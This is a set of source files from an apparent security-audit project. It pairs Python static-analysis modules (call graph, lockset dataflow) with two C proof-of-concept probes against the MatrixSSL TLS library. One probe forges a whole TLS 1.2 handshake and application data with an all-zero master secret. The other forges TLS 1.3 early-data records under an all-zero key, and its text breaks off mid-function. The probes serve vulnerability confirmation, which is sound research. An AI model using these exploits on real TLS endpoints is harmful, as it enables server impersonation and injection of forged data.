                new = None if top else frozenset(acc)
                if new != self.ret[fn.qname]:
                    # monotone: once None stays None
                    if self.ret[fn.qname] is None:
                        continue
                    self.ret[fn.qname] = new
                    changed = True

    def _sources(self, fn, e, assigns, params, seen):
        e = strip(e)
        if e is None:
            return None
        k = e.get("k")
        if k == "int":
            return {e["v"]}
        if k == "cond":
            a = self._sources(fn, e["a"], assigns, params, seen)
            b = self._sources(fn, e["b"], assigns, params, seen)
            if a is None or b is None:
                return None
            return a | b
        if k == "call":
            if "fn" not in e:
                tg = self.cg.call_targets(fn, e)
                if not tg:
                    return None
            else:
                t = self.prog.resolve_call(fn, e["fn"])
                if t is None:
                    return None
                tg = [t]
            acc = set()
            for t in tg:
                r = self.ret.get(t.qname)
                if r is None:
                    return None
                acc |= r
            return acc
        if k == "var":
            if "id" not in e or e["id"] in params:
                return None
            if e["id"] in seen:
                return set()
            seen = seen | {e["id"]}
            acc = set()
            lst = assigns.get(e["id"])
            if not lst:
                return None
            for rhs in lst:
                if rhs is None:
                    return None
                r = self._sources(fn, rhs, assigns, params, seen)
                if r is None:
                    return None
                acc |= r
            return acc
        if k == "bin" and e["op"] == "=":
            return self._sources(fn, e["r"], assigns, params, seen)
        if k == "bin" and e["op"] in ("==", "!=", "<", "<=", ">", ">=", "&&", "||"):
            return {0, 1}
        if k == "un" and e["op"] == "!":
            return {0, 1}
        return None


_CG = None


def load_cg(prog):
    global _CG
    if _CG is None or _CG.prog is not prog:
        _CG = CallGraph(prog)
        _CG.retsets = RetSets(prog, _CG)
    return _CG
