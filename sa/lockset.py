"""Static lockset analysis (Eraser's discipline, decided from the source).

For every function a forward must-dataflow over the clang CFG computes, per
program point, the set of mutexes certainly held (psLockMutex adds, psUnlockMutex
removes, a callee applies its net effect).  An interprocedural fixpoint gives
every function the intersection of the locksets of all its call sites as its
entry lockset (roots: externally callable functions start with the empty set).
Accesses to the declared shared objects are then collected with the lockset at
the access.
"""
from .ir import strip, walk, lvalue_root, ASSIGN_OPS

LOCK_FNS = {"psLockMutex": +1, "psUnlockMutex": -1}
TOPSET = None    # 'all locks' (unreached)


def lock_name(arg):
    a = strip(arg)
    if a is None:
        return None
    if a.get("k") == "un" and a["op"] == "&":
        a = strip(a["e"])
    if a is None:
        return None
    if a.get("k") == "var" and "id" not in a:
        return a["n"]
    if a.get("k") == "mem":
        # field lock: name by the chain of fields (keys->cache.lock -> cache.lock)
        parts = []
        x = a
        while x is not None and x.get("k") == "mem":
            parts.append(x["f"])
            x = strip(x["b"])
        return ".".join(reversed(parts))
    return None


def meet(a, b):
    if a is TOPSET:
        return b
    if b is TOPSET:
        return a
    return a & b


class LockSets:
    def __init__(self, prog, cg, roots=None):
        self.prog = prog
        self.cg = cg
        self.effect = {}       # qname -> (acquired frozenset, released frozenset)
        self.entry = {}        # qname -> frozenset (must-held at entry)
        self.point = {}        # qname -> {block id: [(element index|'c', held-before frozenset)]}
        self.lock_sites = []   # (fn, ln, name, +1/-1, held-before)
        self.all_locks = set()
        for fn in prog.functions.values():
            for b, ln, n in fn.calls():
                if n.get("fn") in LOCK_FNS and n.get("a"):
                    nm = lock_name(n["a"][0])
                    if nm:
                        self.all_locks.add(nm)
        self._effects()
        self._entries(roots)

    # ---------------------------------------------------------------- intraprocedural
    def _transfer_expr(self, fn, x, held, record=None):
        """Apply the lock effects of expression x (calls in evaluation order, approximated by a walk)."""
        for n in walk(x):
            if n.get("k") != "call":
                continue
            name = n.get("fn")
            if name in LOCK_FNS and n.get("a"):
                nm = lock_name(n["a"][0])
                if nm is None:
                    continue
                if record is not None:
                    record.append((fn, n.get("ln"), nm, LOCK_FNS[name], held))
                if LOCK_FNS[name] > 0:
                    held = held | {nm}
                else:
                    held = held - {nm}
                continue
            for t in self.cg.call_targets(fn, n):
                eff = self.effect.get(t.qname)
                if eff:
                    held = (held - eff[1]) | eff[0]
        return held

    def analyse(self, fn, entry, record_points=False, record_sites=None):
        """Must-held locksets; returns (exit set, per-point table)."""
        IN = {b["id"]: TOPSET for b in fn.blocks}
        if fn.entry is None:
            return frozenset(), {}
        IN[fn.entry] = frozenset(entry)
        work = [fn.entry]
        OUT = {}
        while work:
            bid = work.pop()
            b = fn.bmap[bid]
            held = IN[bid]
            if held is TOPSET:
                continue
            for el in b["el"]:
                held = self._transfer_expr(fn, el["x"], held)
            t = b.get("term")
            if t is not None and "c" in t:
                held = self._transfer_expr(fn, t["c"], held)
            OUT[bid] = held
            for sc in b["succ"]:
                sb = sc.get("b")
                if sb is None:
                    continue
                new = meet(IN[sb], held)
                if new != IN[sb]:
                    IN[sb] = new
                    work.append(sb)
        points = {}
        if record_points or record_sites is not None:
            for b in fn.blocks:
                held = IN[b["id"]]
                if held is TOPSET:
                    continue
                lst = []
                for i, el in enumerate(b["el"]):
                    lst.append((i, el, held))
                    held = self._transfer_expr(fn, el["x"], held, record_sites)
                t = b.get("term")
                if t is not None and "c" in t:
                    lst.append(("c", {"ln": t["ln"], "x": t["c"]}, held))
                    held = self._transfer_expr(fn, t["c"], held, record_sites)
                points[b["id"]] = lst
        ex = IN.get(fn.exit)
        return (frozenset() if ex is TOPSET else ex), points

    def _effects(self):
        """Net lock effect of every function (entry = empty set), bottom-up to fixpoint."""
        prog = self.prog
        # only functions from which a lock call is reachable matter
        lockers = set()
        for fn in prog.functions.values():
            if any(n.get("fn") in LOCK_FNS for b, ln, n in fn.calls()):
                lockers.add(fn.qname)
        rel = self.cg.reaches(lockers)
        for q in rel:
            self.effect[q] = (frozenset(), frozenset())
        changed = True
        rounds = 0
        while changed and rounds < 10:
            changed = False
            rounds += 1
            for q in sorted(rel):
                fn = prog.functions[q]
                ex, _ = self.analyse(fn, frozenset())
                # may-release: any unlock of a lock not acquired locally before (approximated by
                # running with all locks held and looking at what is missing at exit)
                ex_all, _ = self.analyse(fn, frozenset(self.all_locks))
                released = frozenset(self.all_locks) - ex_all
                eff = (ex, released - ex)
                if eff != self.effect[q]:
                    self.effect[q] = eff
                    changed = True

    def _entries(self, roots):
        prog = self.prog
        lockers = set(q for q, e in self.effect.items())
        # functions of interest: everything reachable from functions that hold locks at a call
        entry = {}
        if roots is None:
            # externally callable = declared in a header (or without any caller in the library)
            # (public interface headers *Api.h; other headers declare cross-file internals whose
            #  call sites are all in the library and are intersected like those of static functions)
            roots = set(q for q, f in prog.functions.items() if not f.static and f.api)
        roots = set(roots) | set(q for q, f in prog.functions.items() if f.name in self.cg.addr_taken)
        for q in prog.functions:
            entry[q] = frozenset() if q in roots or not self.cg.callers.get(q) else TOPSET
        changed = True
        rounds = 0
        # propagate only through functions that can hold a lock at some call site
        holders = [prog.functions[q] for q in sorted(lockers)]
        while changed and rounds < 60:
            changed = False
            rounds += 1
            calls_held = {}
            for fn in holders:
                e = entry.get(fn.qname)
                if e is TOPSET:
                    continue
                _, points = self.analyse(fn, e, record_points=True)
                for bid, lst in points.items():
                    for (i, el, held) in lst:
                        h = held
                        for n in walk(el["x"]):
                            if n.get("k") != "call":
                                continue
                            name = n.get("fn")
                            if name in LOCK_FNS and n.get("a"):
                                nm = lock_name(n["a"][0])
                                if nm:
                                    h = (h | {nm}) if LOCK_FNS[name] > 0 else (h - {nm})
                                continue
                            for t in self.cg.call_targets(fn, n):
                                calls_held[t.qname] = meet(calls_held.get(t.qname, TOPSET), h)
                                eff = self.effect.get(t.qname)
                                if eff:
                                    h = (h - eff[1]) | eff[0]
            # callees of non-holder functions are called with the caller's entry set
            for q, h in calls_held.items():
                if q in roots:
                    continue
                callers = self.cg.callers.get(q, set())
                others = [c for c in callers if c not in lockers]
                new = h
                for c in others:
                    ce = entry.get(c)
                    new = meet(new, ce if ce is not TOPSET else TOPSET)
                if new is TOPSET:
                    continue
                if entry.get(q) is TOPSET or new != entry[q]:
                    old = entry.get(q)
                    entry[q] = new if old is TOPSET else (old & new)
                    if entry[q] != old:
                        changed = True
            # propagate entry sets down through non-holder callers (no lock operations inside them)
            for q, f in prog.functions.items():
                if q in roots or q in calls_held:
                    continue
                callers = self.cg.callers.get(q, set())
                if not callers:
                    continue
                new = TOPSET
                for c in callers:
                    ce = entry.get(c)
                    if c in lockers:
                        ce = calls_held.get(q, ce)
                    new = meet(new, ce)
                if new is not TOPSET and (entry[q] is TOPSET or new != entry[q]):
                    old = entry[q]
                    entry[q] = new if old is TOPSET else (old & new)
                    if entry[q] != old:
                        changed = True
        self.entry = {q: (frozenset() if e is TOPSET else e) for q, e in entry.items()}

    # ---------------------------------------------------------------- queries
    def held_points(self, fn):
        sites = []
        _, points = self.analyse(fn, self.entry.get(fn.qname, frozenset()), record_points=True, record_sites=sites)
        return points, sites
