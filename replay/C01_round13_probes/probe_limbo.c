/*
    probe_limbo.c - side observation probe (UNMODIFIED code), property C01.

    A TLS 1.2 client holds a session ticket (sslSessionId_t) from an earlier
    session negotiated with suite A.  The application starts a new session
    with the same sslSessionId_t, ticket resumption switched on, and an
    explicit cipher list that does not contain A.  matrixSslNewClientSession
    ("Explicit cipher suite will override session cache") then zeroes
    sid->id, sid->masterSecret and sid->cipherId but keeps the ticket, so the
    ClientHello still carries the ticket while ssl->sec.masterSecret is all
    zero.  A ServerHello without the SessionTicket extension puts the client
    into SESS_TICKET_STATE_IN_LIMBO; a ChangeCipherSpec that follows makes it
    "resume" (sslCreateKeys) with the all-zero master secret.

    A network attacker who has no key at all therefore completes the
    handshake in the name of the server and has application data delivered.

    exit 0: attack did not work.  exit 1: forged application data delivered.
*/
#include <stdio.h>
#include <string.h>
#include <stdlib.h>

#include "matrixssl/matrixsslApi.h"
#include "crypto/cryptoApi.h"

#include "testkeys/EC/256_EC.h"
#include "testkeys/EC/256_EC_KEY.h"
#include "testkeys/EC/256_EC_CA.h"

#define FORGED "FORGED-SERVER-DATA-FROM-KEYLESS-ATTACKER"

static sslKeys_t *g_svrKeys, *g_clnKeys;
static sslSessionId_t *g_sid;
static unsigned char g_wire[65536];

static int32_t certCb(ssl_t *ssl, psX509Cert_t *cert, int32_t alert)
{
    (void) ssl; (void) cert;
    return alert; /* strict: whatever the library found stays fatal */
}

static void die(const char *msg, int rc)
{
    printf("probe: setup problem: %s (%d)\n", msg, rc);
    exit(2);
}

static int32 deliver(ssl_t *to, const unsigned char *data, int32 len,
        unsigned char *appOut, uint32 *appLen)
{
    unsigned char *buf, *pt;
    uint32 ptLen;
    int32 rc = 0, room;

    while (len > 0)
    {
        int32 n;
        room = matrixSslGetReadbufOfSize(to, len, &buf);
        if (room <= 0)
        {
            return PS_FAILURE;
        }
        n = (len < room) ? len : room;
        memcpy(buf, data, n);
        data += n;
        len -= n;
        rc = matrixSslReceivedData(to, n, &pt, &ptLen);
        while (rc == MATRIXSSL_APP_DATA || rc == MATRIXSSL_RECEIVED_ALERT)
        {
            if (rc == MATRIXSSL_APP_DATA && appOut != NULL)
            {
                memcpy(appOut + *appLen, pt, ptLen);
                *appLen += ptLen;
                printf("    -> application receives %u byte(s): \"%.*s\"\n",
                    (unsigned) ptLen, (int) ptLen, (char *) pt);
            }
            if (rc == MATRIXSSL_RECEIVED_ALERT)
            {
                printf("    -> alert level %d description %d\n", pt[0], pt[1]);
            }
            rc = matrixSslProcessedData(to, &pt, &ptLen);
        }
        if (rc < 0)
        {
            return rc;
        }
    }
    return rc;
}

static int32 drain(ssl_t *from, unsigned char *out, int32 max)
{
    unsigned char *buf;
    int32 len, total = 0;

    while ((len = matrixSslGetOutdata(from, &buf)) > 0)
    {
        if (total + len > max)
        {
            die("drain buffer too small", len);
        }
        memcpy(out + total, buf, len);
        total += len;
        matrixSslSentData(from, len);
    }
    return total;
}

static void pump(ssl_t *c, ssl_t *s)
{
    int32 n, rounds = 0;
    int progress = 1;

    while (progress && rounds++ < 20)
    {
        progress = 0;
        if ((n = drain(c, g_wire, sizeof(g_wire))) > 0)
        {
            progress = 1;
            deliver(s, g_wire, n, NULL, NULL);
        }
        if ((n = drain(s, g_wire, sizeof(g_wire))) > 0)
        {
            progress = 1;
            deliver(c, g_wire, n, NULL, NULL);
        }
    }
}

/* TLS 1.2 PRF with SHA-256 (RFC 5246, 5). */
static void prfSha256(const unsigned char *sec, psSize_t secLen,
        const unsigned char *seed, psSize_t seedLen,
        unsigned char *out, psSize_t outLen)
{
    unsigned char a[32], blk[32];
    psHmacSha256_t h;
    psSize_t done = 0, n;

    psHmacSha256Init(&h, sec, secLen);          /* A(1) */
    psHmacSha256Update(&h, seed, seedLen);
    psHmacSha256Final(&h, a);
    while (done < outLen)
    {
        psHmacSha256Init(&h, sec, secLen);
        psHmacSha256Update(&h, a, 32);
        psHmacSha256Update(&h, seed, seedLen);
        psHmacSha256Final(&h, blk);
        n = (outLen - done < 32) ? (psSize_t) (outLen - done) : 32;
        memcpy(out + done, blk, n);
        done += n;
        psHmacSha256Init(&h, sec, secLen);      /* A(i+1) */
        psHmacSha256Update(&h, a, 32);
        psHmacSha256Final(&h, a);
    }
}

/* One TLS 1.2 AES-128-GCM record from the "server". */
static int32 gcmRecord(const unsigned char *key, const unsigned char *salt,
        uint32 seq, unsigned char type, const unsigned char *pt, uint32 ptLen,
        unsigned char *out)
{
    psAesGcm_t gcm;
    unsigned char nonce[16], aad[13], keybuf[32];

    memset(keybuf, 0, sizeof(keybuf));
    memcpy(keybuf, key, 16);
    memset(nonce, 0, sizeof(nonce));
    memcpy(nonce, salt, 4);
    nonce[11] = (unsigned char) seq;            /* explicit nonce = seq */
    memset(aad, 0, sizeof(aad));
    aad[7] = (unsigned char) seq;
    aad[8] = type; aad[9] = 3; aad[10] = 3;
    aad[11] = (unsigned char) (ptLen >> 8); aad[12] = (unsigned char) ptLen;

    out[0] = type; out[1] = 3; out[2] = 3;
    out[3] = (unsigned char) ((ptLen + 24) >> 8);
    out[4] = (unsigned char) ((ptLen + 24) & 0xff);
    memcpy(out + 5, nonce + 4, 8);
    memset(&gcm, 0, sizeof(gcm));
    psAesInitGCM(&gcm, keybuf, 16);
    psAesReadyGCM(&gcm, nonce, aad, 13);
    psAesEncryptGCM(&gcm, pt, out + 13, ptLen);
    psAesGetGCMTag(&gcm, 16, out + 13 + ptLen);
    return 5 + 8 + ptLen + 16;
}

static ssl_t *newClient(psCipher16_t suite)
{
    sslSessOpts_t opts;
    ssl_t *c = NULL;
    int32 rc;

    memset(&opts, 0, sizeof(opts));
    opts.versionFlag = SSL_FLAGS_TLS_1_2;
    opts.ticketResumption = 1;
    rc = matrixSslNewClientSession(&c, g_clnKeys, g_sid, &suite, 1, certCb,
            NULL, NULL, NULL, &opts);
    if (rc < 0)
    {
        die("matrixSslNewClientSession", rc);
    }
    return c;
}

int main(void)
{
    unsigned char tname[16], tsym[32], tmac[32];
    sslSessOpts_t sopts;
    ssl_t *c, *s = NULL;
    unsigned char ch[4096], out[1024], app[4096];
    unsigned char sh[128], master[48], seed[13 + 64], kb[40], vd[12];
    unsigned char hsHash[32], fin[16];
    unsigned char *p, *e, *crandom;
    const unsigned char *sKey, *sIv;
    uint32 appLen = 0, shLen;
    int32 chLen, n, rc, haveTicket = 0;
    psSha256_t md;

    setvbuf(stdout, NULL, _IONBF, 0);
    if (matrixSslOpen() < 0)
    {
        die("matrixSslOpen", -1);
    }
    matrixSslNewKeys(&g_svrKeys, NULL);
    matrixSslNewKeys(&g_clnKeys, NULL);
    if (matrixSslLoadEcKeysMem(g_svrKeys, EC256, EC256_SIZE, EC256KEY,
            EC256KEY_SIZE, NULL, 0) < 0 ||
        matrixSslLoadEcKeysMem(g_clnKeys, NULL, 0, NULL, 0, EC256CA,
            EC256CA_SIZE) < 0)
    {
        die("load keys", -1);
    }
    memset(tname, 0x22, sizeof(tname));
    psGetPrngLocked(tsym, sizeof(tsym), NULL);
    psGetPrngLocked(tmac, sizeof(tmac), NULL);
    if (matrixSslLoadSessionTicketKeys(g_svrKeys, tname, tsym, 32, tmac, 32) < 0)
    {
        die("ticket keys", -1);
    }
    matrixSslNewSessionId(&g_sid, NULL);

    printf("[1] genuine TLS 1.2 handshake with suite C009, client gets a ticket\n");
    memset(&sopts, 0, sizeof(sopts));
    sopts.versionFlag = SSL_FLAGS_TLS_1_2;
    if (matrixSslNewServerSession(&s, g_svrKeys, NULL, &sopts) < 0)
    {
        die("matrixSslNewServerSession", -1);
    }
    c = newClient(TLS_ECDHE_ECDSA_WITH_AES_128_CBC_SHA);
    pump(c, s);
    if (!matrixSslHandshakeIsComplete(c) || !matrixSslHandshakeIsComplete(s))
    {
        die("initial handshake did not complete", 0);
    }
    matrixSslDeleteSession(c);
    matrixSslDeleteSession(s);

    printf("[2] same session id structure, ticket resumption, but the\n"
           "    application now asks for suite C02B only; the peer is an\n"
           "    attacker without any key\n");
    c = newClient(TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256);
    chLen = drain(c, ch, sizeof(ch));
    if (chLen < 50 || ch[0] != 22 || ch[5] != 1)
    {
        die("no ClientHello", chLen);
    }
    crandom = ch + 5 + 4 + 2;
    /* Does the ClientHello carry a non-empty SessionTicket extension? */
    p = ch + 5 + 4 + 2 + 32;
    p += 1 + p[0];                              /* session id */
    p += 2 + ((p[0] << 8) | p[1]);              /* cipher suites */
    p += 1 + p[0];                              /* compression */
    e = p + 2 + ((p[0] << 8) | p[1]);
    p += 2;
    while (p + 4 <= e)
    {
        uint32 t = (p[0] << 8) | p[1], l = (p[2] << 8) | p[3];
        if (t == 35 && l > 0)
        {
            haveTicket = 1;
        }
        p += 4 + l;
    }
    printf("    ClientHello carries a session ticket: %s\n",
        haveTicket ? "yes" : "no");

    /* ServerHello: no session id, suite C02B, no extensions. */
    p = sh;
    *p++ = 2; *p++ = 0; *p++ = 0; *p++ = 0;    /* length patched below */
    *p++ = 3; *p++ = 3;
    memset(p, 0xA5, 32); p += 32;               /* server random */
    *p++ = 0;                                   /* session id length */
    *p++ = 0xC0; *p++ = 0x2B;
    *p++ = 0;                                   /* compression */
    shLen = (uint32) (p - sh);
    sh[3] = (unsigned char) (shLen - 4);

    n = 0;
    out[n++] = 22; out[n++] = 3; out[n++] = 3;
    out[n++] = 0; out[n++] = (unsigned char) shLen;
    memcpy(out + n, sh, shLen); n += shLen;
    /* ChangeCipherSpec */
    out[n++] = 20; out[n++] = 3; out[n++] = 3; out[n++] = 0; out[n++] = 1;
    out[n++] = 1;

    /* Everything below is computed from public values and 48 zero octets. */
    memset(master, 0, sizeof(master));
    memcpy(seed, "key expansion", 13);
    memset(seed + 13, 0xA5, 32);
    memcpy(seed + 13 + 32, crandom, 32);
    prfSha256(master, 48, seed, 13 + 64, kb, 40);
    sKey = kb + 16;                             /* server_write_key */
    sIv = kb + 36;                              /* server_write_IV */

    psSha256PreInit(&md);
    psSha256Init(&md);
    psSha256Update(&md, ch + 5, ((uint32) ch[3] << 8) | ch[4]);
    psSha256Update(&md, sh, shLen);
    psSha256Final(&md, hsHash);
    memcpy(seed, "server finished", 15);
    memcpy(seed + 15, hsHash, 32);
    prfSha256(master, 48, seed, 15 + 32, vd, 12);
    fin[0] = 20; fin[1] = 0; fin[2] = 0; fin[3] = 12;
    memcpy(fin + 4, vd, 12);
    n += gcmRecord(sKey, sIv, 0, 22, fin, 16, out + n);

    rc = deliver(c, out, n, app, &appLen);
    printf("    client after ServerHello/CCS/Finished: rc %d, handshake "
        "complete: %d\n", (int) rc, matrixSslHandshakeIsComplete(c));
    {
        int32 k, m = drain(c, g_wire, sizeof(g_wire)); /* its CCS + Finished */
        printf("    client sent %d bytes:", (int) m);
        for (k = 0; k < m && k < 16; k++) printf(" %02x", g_wire[k]);
        printf("\n");
    }

    n = gcmRecord(sKey, sIv, 1, 23, (const unsigned char *) FORGED,
            sizeof(FORGED) - 1, out);
    rc = deliver(c, out, n, app, &appLen);
    printf("    client after the application data record: rc %d\n", (int) rc);

    if (appLen >= sizeof(FORGED) - 1 &&
        memcmp(app, FORGED, sizeof(FORGED) - 1) == 0)
    {
        printf("RESULT: CONFIRMED: the client took a peer that knows no key "
            "for the server and\n        handed its record to the "
            "application\n");
        return 1;
    }
    printf("RESULT: not confirmed (forged data not delivered)\n");
    return 0;
}
