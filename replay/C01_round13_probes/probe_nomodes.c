/*
    probe_nomodes.c - side observation probe (UNMODIFIED code), property C01.

    TLS 1.3 server with early data enabled.  A ClientHello offers a valid
    resumption PSK (correct binder) and early_data, but carries no
    psk_key_exchange_modes extension (RFC 8446 4.2.9 says the server MUST
    abort; nothing checks it).  tls13ParsePreSharedKey sets
    tls13ServerEarlyDataEnabled while it walks the identities;
    selectKeyExchangeMode() then finds no usable mode and sets
    tls13ChosenPsk = NULL (tls13UsingPsk stays TRUE), so the block that
    derives the early data secret and keys is skipped, yet
    tls13ActivateEarlyDataReadKeys() is still called: the server waits for
    early data (WAIT_EOED) with an all-zero AES key and IV.

    The ClientHello has to come from somebody who knows the PSK (here: the
    genuine client's ClientHello with that extension cut out and the binder
    recomputed), but the early data records can then be made by anybody.

    exit 0: not confirmed.  exit 1: record under the all-zero key delivered.
*/
#include <stdio.h>
#include <string.h>
#include <stdlib.h>

#include "matrixssl/matrixsslApi.h"
#include "matrixssl/matrixssllib.h"     /* sslSessionId_t, psTls13Psk_t */
#include "crypto/cryptoApi.h"

#include "testkeys/EC/256_EC.h"
#include "testkeys/EC/256_EC_KEY.h"
#include "testkeys/EC/256_EC_CA.h"

#define FORGED "RECORD-UNDER-ALL-ZERO-KEY"

static sslKeys_t *g_svrKeys, *g_clnKeys;
static sslSessionId_t *g_sid;
static unsigned char g_wire[65536];

static int32_t certCb(ssl_t *ssl, psX509Cert_t *cert, int32_t alert)
{
    (void) ssl; (void) cert; (void) alert;
    return 0;
}

static void die(const char *msg, int rc)
{
    printf("probe: setup problem: %s (%d)\n", msg, rc);
    exit(2);
}

static int32 deliver(ssl_t *to, const unsigned char *data, int32 len,
        unsigned char *appOut, uint32 *appLen)
{
    unsigned char *buf, *pt;
    uint32 ptLen;
    int32 rc = 0, room;

    while (len > 0)
    {
        int32 n;
        room = matrixSslGetReadbufOfSize(to, len, &buf);
        if (room <= 0)
        {
            return PS_FAILURE;
        }
        n = (len < room) ? len : room;
        memcpy(buf, data, n);
        data += n;
        len -= n;
        rc = matrixSslReceivedData(to, n, &pt, &ptLen);
        while (rc == MATRIXSSL_APP_DATA || rc == MATRIXSSL_RECEIVED_ALERT)
        {
            if (rc == MATRIXSSL_APP_DATA && appOut != NULL)
            {
                memcpy(appOut + *appLen, pt, ptLen);
                *appLen += ptLen;
                printf("    -> application receives %u byte(s): \"%.*s\"\n",
                    (unsigned) ptLen, (int) ptLen, (char *) pt);
            }
            if (rc == MATRIXSSL_RECEIVED_ALERT)
            {
                printf("    -> alert level %d description %d\n", pt[0], pt[1]);
            }
            rc = matrixSslProcessedData(to, &pt, &ptLen);
        }
        if (rc < 0)
        {
            return rc;
        }
    }
    return rc;
}

static int32 drain(ssl_t *from, unsigned char *out, int32 max)
{
    unsigned char *buf;
    int32 len, total = 0;

    while ((len = matrixSslGetOutdata(from, &buf)) > 0)
    {
        if (total + len > max)
        {
            die("drain buffer too small", len);
        }
        memcpy(out + total, buf, len);
        total += len;
        matrixSslSentData(from, len);
    }
    return total;
}

static void pump(ssl_t *c, ssl_t *s)
{
    int32 n, rounds = 0;
    int progress = 1;

    while (progress && rounds++ < 20)
    {
        progress = 0;
        if ((n = drain(c, g_wire, sizeof(g_wire))) > 0)
        {
            progress = 1;
            deliver(s, g_wire, n, NULL, NULL);
        }
        if ((n = drain(s, g_wire, sizeof(g_wire))) > 0)
        {
            progress = 1;
            deliver(c, g_wire, n, NULL, NULL);
        }
    }
}

static ssl_t *newServer(void)
{
    sslSessOpts_t opts;
    ssl_t *s = NULL;

    memset(&opts, 0, sizeof(opts));
    opts.versionFlag = SSL_FLAGS_TLS_1_3;
    opts.tls13SessionMaxEarlyData = 4096;
    if (matrixSslNewServerSession(&s, g_svrKeys, NULL, &opts) < 0)
    {
        die("matrixSslNewServerSession", -1);
    }
    return s;
}

static ssl_t *newClient(void)
{
    sslSessOpts_t opts;
    ssl_t *c = NULL;
    psCipher16_t suite = TLS_AES_128_GCM_SHA256;

    memset(&opts, 0, sizeof(opts));
    opts.versionFlag = SSL_FLAGS_TLS_1_3;
    if (matrixSslNewClientSession(&c, g_clnKeys, g_sid, &suite, 1, certCb,
            NULL, NULL, NULL, &opts) < 0)
    {
        die("matrixSslNewClientSession", -1);
    }
    return c;
}

static void expandLabel(const unsigned char *secret, const char *label,
        const unsigned char *ctx, psSize_t ctxLen, psSize_t outLen,
        unsigned char *out)
{
    if (psHkdfExpandLabel(NULL, HMAC_SHA256, secret, 32, label,
            (psSize_t) strlen(label), ctx, ctxLen, outLen, out) < 0)
    {
        die("psHkdfExpandLabel", -1);
    }
}

int main(void)
{
    unsigned char tname[16], tsym[32], tmac[32];
    ssl_t *c, *s;
    unsigned char ch[4096], app[4096], flight[8192];
    unsigned char *p, *e, *extLenPos, *modes = NULL;
    uint32 appLen = 0, modesLen = 0, hsLen, recLen, extTot;
    int32 chLen, n, rc;

    setvbuf(stdout, NULL, _IONBF, 0);
    if (matrixSslOpen() < 0)
    {
        die("matrixSslOpen", -1);
    }
    matrixSslNewKeys(&g_svrKeys, NULL);
    matrixSslNewKeys(&g_clnKeys, NULL);
    if (matrixSslLoadEcKeysMem(g_svrKeys, EC256, EC256_SIZE, EC256KEY,
            EC256KEY_SIZE, NULL, 0) < 0 ||
        matrixSslLoadEcKeysMem(g_clnKeys, NULL, 0, NULL, 0, EC256CA,
            EC256CA_SIZE) < 0)
    {
        die("load keys", -1);
    }
    memset(tname, 0x33, sizeof(tname));
    psGetPrngLocked(tsym, sizeof(tsym), NULL);
    psGetPrngLocked(tmac, sizeof(tmac), NULL);
    if (matrixSslLoadSessionTicketKeys(g_svrKeys, tname, tsym, 32, tmac, 32) < 0)
    {
        die("ticket keys", -1);
    }
    matrixSslNewSessionId(&g_sid, NULL);

    printf("[1] full TLS 1.3 handshake, client gets a ticket\n");
    c = newClient();
    s = newServer();
    pump(c, s);
    if (!matrixSslHandshakeIsComplete(c) || !matrixSslHandshakeIsComplete(s))
    {
        die("initial handshake did not complete", 0);
    }
    matrixSslDeleteSession(c);
    matrixSslDeleteSession(s);
    if (g_sid->psk == NULL || g_sid->psk->pskLen != 32)
    {
        die("no SHA-256 resumption PSK in the session id", 0);
    }

    printf("[2] ClientHello with PSK + early_data but WITHOUT "
        "psk_key_exchange_modes\n");
    c = newClient();
    chLen = drain(c, ch, sizeof(ch));
    if (chLen < 60 || ch[0] != 22 || ch[5] != 1)
    {
        die("no ClientHello", chLen);
    }
    recLen = ((uint32) ch[3] << 8) | ch[4];
    chLen = 5 + recLen;                         /* ClientHello record only */
    hsLen = ((uint32) ch[6] << 16) | ((uint32) ch[7] << 8) | ch[8];
    p = ch + 5 + 4 + 2 + 32;
    p += 1 + p[0];
    p += 2 + ((p[0] << 8) | p[1]);
    p += 1 + p[0];
    extLenPos = p;
    extTot = (p[0] << 8) | p[1];
    e = p + 2 + extTot;
    p += 2;
    while (p + 4 <= e)
    {
        uint32 t = (p[0] << 8) | p[1], l = (p[2] << 8) | p[3];
        if (t == 45)
        {
            modes = p;
            modesLen = 4 + l;
        }
        p += 4 + l;
    }
    if (modes == NULL)
    {
        die("ClientHello has no psk_key_exchange_modes", 0);
    }
    memmove(modes, modes + modesLen, (ch + chLen) - (modes + modesLen));
    chLen -= modesLen; recLen -= modesLen; hsLen -= modesLen; extTot -= modesLen;
    ch[3] = (unsigned char) (recLen >> 8); ch[4] = (unsigned char) recLen;
    ch[6] = (unsigned char) (hsLen >> 16); ch[7] = (unsigned char) (hsLen >> 8);
    ch[8] = (unsigned char) hsLen;
    extLenPos[0] = (unsigned char) (extTot >> 8);
    extLenPos[1] = (unsigned char) extTot;
    {
        /* New binder (one SHA-256 PSK: the last 2 + 1 + 32 octets are the
           binders list). */
        unsigned char zero[32], early[64], bk[32], fk[32], th[32], e0[32];
        psSize_t earlyLen = sizeof(early);
        psSha256_t md;
        psHmacSha256_t h;

        memset(zero, 0, sizeof(zero));
        psHkdfExtract(HMAC_SHA256, zero, 32, g_sid->psk->pskKey, 32, early,
            &earlyLen);
        psSha256PreInit(&md); psSha256Init(&md); psSha256Final(&md, e0);
        expandLabel(early, "res binder", e0, 32, 32, bk);
        expandLabel(bk, "finished", NULL, 0, 32, fk);
        psSha256PreInit(&md); psSha256Init(&md);
        psSha256Update(&md, ch + 5, recLen - 35);
        psSha256Final(&md, th);
        psHmacSha256Init(&h, fk, 32);
        psHmacSha256Update(&h, th, 32);
        psHmacSha256Final(&h, ch + chLen - 32);
    }

    s = newServer();
    rc = deliver(s, ch, chLen, app, &appLen);
    n = drain(s, flight, sizeof(flight));
    printf("    server: rc %d, answered with %d bytes%s\n", (int) rc, (int) n,
        (n > 6 && flight[0] == 22 && flight[5] == 2) ? " (ServerHello ...)" :
        "");

    printf("[3] anybody sends a record protected with key 0^16, iv 0^12\n");
    {
        unsigned char key[32], iv[16], rec[5 + sizeof(FORGED) + 16];
        unsigned char inner[sizeof(FORGED)];
        uint32 innerLen = sizeof(FORGED);
        psAesGcm_t gcm;

        memset(key, 0, sizeof(key));
        memset(iv, 0, sizeof(iv));
        memcpy(inner, FORGED, sizeof(FORGED) - 1);
        inner[sizeof(FORGED) - 1] = 23;
        rec[0] = 23; rec[1] = 3; rec[2] = 3;
        rec[3] = (unsigned char) ((innerLen + 16) >> 8);
        rec[4] = (unsigned char) ((innerLen + 16) & 0xff);
        memset(&gcm, 0, sizeof(gcm));
        psAesInitGCM(&gcm, key, 16);
        psAesReadyGCM(&gcm, iv, rec, 5);
        psAesEncryptGCM(&gcm, inner, rec + 5, innerLen);
        psAesGetGCMTag(&gcm, 16, rec + 5 + innerLen);
        appLen = 0;
